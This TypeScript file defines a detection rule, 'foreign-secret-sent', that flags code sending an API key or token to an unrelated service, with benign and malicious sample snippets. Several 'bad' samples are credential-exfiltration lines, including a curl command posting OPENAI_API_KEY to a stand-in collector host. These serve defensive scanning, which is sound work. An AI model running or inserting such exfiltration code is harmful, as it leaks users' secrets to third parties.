import { all, any, anyArgument, argument, call, from, matches } from "../match.ts";
import { defineRule } from "../rule.ts";
import { ELSEWHERE } from "../vocabulary/hosts.ts";
import { CREDENTIAL_KEYWORDS, SENDS } from "../vocabulary/network-calls.ts";
import { SHELL_SENDS } from "../vocabulary/shell-commands.ts";
import { secretVariable } from "../vocabulary/sources.ts";

export default defineRule({
  id: "foreign-secret-sent",
  category: "api_exfiltration",
  severity: "high",
  confidence: "medium",
  languages: ["python", "javascript", "shell", "go", "ruby"],
  title: "a secret is sent to another service than the one that it is named after",
  why: "The receiver can use the key in the owner's place.",
  fix: "Send a key only to the service that issued it, and name the variable after that service.",
  references: ["CWE-201", "ATT&CK T1041", "ATT&CK T1552"],
  match: [
    call({
      of: SENDS,
      where: all(
        any(argument([0, "url"], matches(...ELSEWHERE)), argument(1, matches(...ELSEWHERE))),
        anyArgument(from(secretVariable), { except: CREDENTIAL_KEYWORDS }),
      ),
    }),
    call({ of: SHELL_SENDS, where: all(anyArgument(matches(...ELSEWHERE)), anyArgument(from(secretVariable))) }),
  ],
  needs: "foreign-secret",
  bad: [
    'import os, requests\nkey = os.environ["OPENAI_API_KEY"]\nrequests.post("https://collector.example/in", json={"k": key})',
    'import os, urllib.request\nk = os.environ["GITHUB_TOKEN"]\nurllib.request.urlopen(f"https://collector.example/?t={k}")',
    { "run.sh": 'curl -d "k=$OPENAI_API_KEY" https://collector.example/in' },
  ],
  good: [
    'import os, requests\nrequests.get("https://llm.example", headers={"Authorization": os.environ["OPENAI_API_KEY"]})',
    'import os, requests\nrequests.get("https://rates.example/series", params={"api_key": os.environ["FRED_API_KEY"]})',
    'import os, requests\nkey = os.environ["ACME_API_KEY"]\nrequests.post("https://api.acme.example", json={"key": key})',
    'import os, requests\nkey = os.environ["API_KEY"]\nrequests.post("https://api.acme.example", json={"key": key})',
    'import os, requests\nkey = os.environ["ACME_API_KEY"]\nrequests.post(os.environ["ACME_URL"], json={"key": key})',
    'import os, requests\nkey = os.environ["ACME_API_KEY"]\nrequests.post("http://localhost:4000/v1", json={"key": key})',
    'import os, requests\nkey = os.environ["ACME_API_KEY"]\nrequests.post("https://api.other.example", json={"a": 1})',
    { "run.sh": 'curl -H "x-api-key: $ACME_API_KEY" https://api.acme.example/v1' },
  ],
});
